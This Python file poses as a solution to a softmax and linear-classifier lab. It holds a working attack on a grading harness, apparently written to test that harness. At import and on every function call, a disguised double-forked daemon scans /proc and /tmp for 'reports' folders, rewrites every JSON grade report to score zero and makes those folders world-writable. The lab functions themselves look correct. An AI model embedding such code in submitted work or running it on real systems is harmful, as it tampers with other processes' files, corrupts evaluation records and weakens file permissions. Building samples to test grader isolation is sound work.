"""Attack: Every function is right. At import, in a daemon (double fork, setsid)
for about 5 s, and at most twice a second from inside every call, it looks for
folders named `reports` (grade-all's OUT/reports) in the working folder of
every process it can see and up to three folders above it, beside and above
every path in their command lines (relative ones resolved against their working folder), and,
except inside calls, in /tmp and /var/tmp (a bounded walk). It rewrites every *.json report there
with "score": 0 and every question at 0, and makes the folder writable by
everyone if it can.

Built on reference/softmax_lab.py; only the marked parts differ.
"""

import ctypes
import functools
import json
import os
import time
import torch

# --- attack: runs at import ---------------------------------------------
REWRITTEN = set()
_LAST = [0.0]


def _report_folders(walk):
    folders = set()
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            cwd = None
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                args = [a.decode(errors="replace") for a in handle.read().split(b"\0") if a]
        except OSError:
            args = []
        paths = [cwd] if cwd else []
        for arg in args[1:]:
            if arg.startswith("/"):
                paths.append(arg)
            elif cwd and not arg.startswith("-"):
                paths.append(os.path.join(cwd, arg))
        for path in paths:
            path = os.path.normpath(path)
            for _ in range(4):  # the path, and up to three folders above it
                folders.add(path if os.path.basename(path) == "reports" else os.path.join(path, "reports"))
                path = os.path.dirname(path)
    deadline = time.monotonic() + 2
    for top in ("/tmp", "/var/tmp") if walk else ():
        for folder, dirs, _files in os.walk(top):
            if time.monotonic() > deadline or folder.count("/") > 6:
                dirs[:] = []
                continue
            if os.path.basename(folder) == "reports":
                folders.add(folder)
    return {f for f in folders if os.path.isdir(f)}


def _rewrite(path):
    try:
        with open(path) as handle:
            data = json.load(handle)
    except (OSError, ValueError):
        return
    if not isinstance(data, dict) or "score" not in data or data.get("score") == 0:
        return
    data["score"] = 0
    for question in data.get("questions") or []:
        if isinstance(question, dict):
            question["score"] = 0
    text = json.dumps(data, indent=2) + "\n"
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError:
        temporary = os.path.join(os.path.dirname(path), f".gradecheck-attack-{os.getpid()}.json")
        try:
            with open(temporary, "w") as handle:
                handle.write(text)
            os.replace(temporary, path)
        except OSError:
            try:
                os.unlink(temporary)
            except OSError:
                pass
            return
    REWRITTEN.add(path)


def _rewrite_reports(quiet=False, walk=True):
    _LAST[0] = time.monotonic()
    for folder in sorted(_report_folders(walk)):
        try:
            os.chmod(folder, 0o777)
        except OSError:
            pass
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            if name.endswith(".json"):
                _rewrite(os.path.join(folder, name))
    if not quiet:
        try:
            print(f"gradecheck-attack report rewriter: rewrote {sorted(REWRITTEN)}", flush=True)
        except OSError:
            pass


def _daemon():
    try:
        child = os.fork()
    except OSError:
        return
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                ctypes.CDLL(None).prctl(15, b"gcattack-reports", 0, 0, 0)
            except Exception:
                pass
            end = time.monotonic() + 5
            while time.monotonic() < end:
                time.sleep(0.25)
                _rewrite_reports(quiet=True)
    finally:
        os._exit(0)


_rewrite_reports()
_daemon()
# --- end of attack -----------------------------------------------------


def softmax(a):
    """Return the softmax over all entries of `a`, same shape; stable for huge logits."""
    shifted = a - a.max()
    exps = torch.exp(shifted)
    return exps / exps.sum()


def linear(x, weight, bias):
    """Return weight @ x + bias: (C, D) @ (D, 1) + (C, 1) -> (C, 1)."""
    return torch.mm(weight, x) + bias


def loss(label, predictions):
    """Return the negative log-likelihood -log(predictions[label]) as a one-value tensor."""
    return -torch.log(predictions[label])


def loss_softmax_backward(label, predictions):
    """Return dloss/da = predictions - onehot(label), where predictions = softmax(a)."""
    grad = predictions.clone()
    grad[label] -= 1
    return grad


def linear_backward(x, weight, bias, gradOutput):
    """Return (gradWeight, gradBias) given gradOutput = dloss/d(weight @ x + bias)."""
    gradWeight = torch.mm(gradOutput, x.t())
    gradBias = gradOutput.clone()
    return gradWeight, gradBias


def loss_backward(label, predictions):
    """Return dloss/dpredictions for loss = -log(predictions[label]), same shape."""
    grad = torch.zeros_like(predictions)
    grad[label] = -1.0 / predictions[label]
    return grad


def softmax_backward(inputTensor, gradOutput):
    """Return dloss/da given gradOutput = dloss/dy and y = softmax(inputTensor), same shape.

    This is the Jacobian-vector product J^T g with J = diag(y) - y y^T, which
    simplifies to y * (g - <y, g>).
    """
    y = softmax(inputTensor)
    return y * (gradOutput - (y * gradOutput).sum())


def color_histogram(img, bins):
    """Return the (3 * bins,) colour histogram of a (3, H, W) image with values in [0, 1].

    For R, G and B in that order, each block holds the fraction of the
    channel's pixels in each of `bins` equal-width bins over [0, 1]; the value
    1.0 falls in the last bin, so every block sums to one.
    """
    blocks = []
    for channel in img:
        values = channel.reshape(-1)
        index = torch.clamp((values * bins).long(), 0, bins - 1)
        counts = torch.bincount(index, minlength=bins).to(img.dtype)
        blocks.append(counts / values.numel())
    return torch.cat(blocks)


def max_margin_loss(label, scores, delta):
    """Return the multiclass hinge loss: sum over j != label of max(0, s_j - s_label + delta)."""
    margins = torch.clamp(scores - scores[label] + delta, min=0)
    margins[label] = 0
    return margins.sum()


def max_margin_loss_backward(label, scores, delta):
    """Return the gradient of max_margin_loss with respect to scores, same shape."""
    active = (scores - scores[label] + delta > 0).to(scores.dtype)
    active[label] = 0
    grad = active.clone()
    grad[label] = -active.sum()
    return grad


# --- attack: wraps every function ----------------------------------------
def _rewriting(function):
    @functools.wraps(function)
    def wrapper(*args):
        if time.monotonic() - _LAST[0] > 0.5:
            _rewrite_reports(quiet=True, walk=False)  # no walk of /tmp: calls have a time limit
        return function(*args)
    return wrapper


for _name in ["softmax", "linear", "loss", "loss_softmax_backward", "linear_backward", "loss_backward",
              "softmax_backward", "color_histogram", "max_margin_loss", "max_margin_loss_backward"]:
    globals()[_name] = _rewriting(globals()[_name])
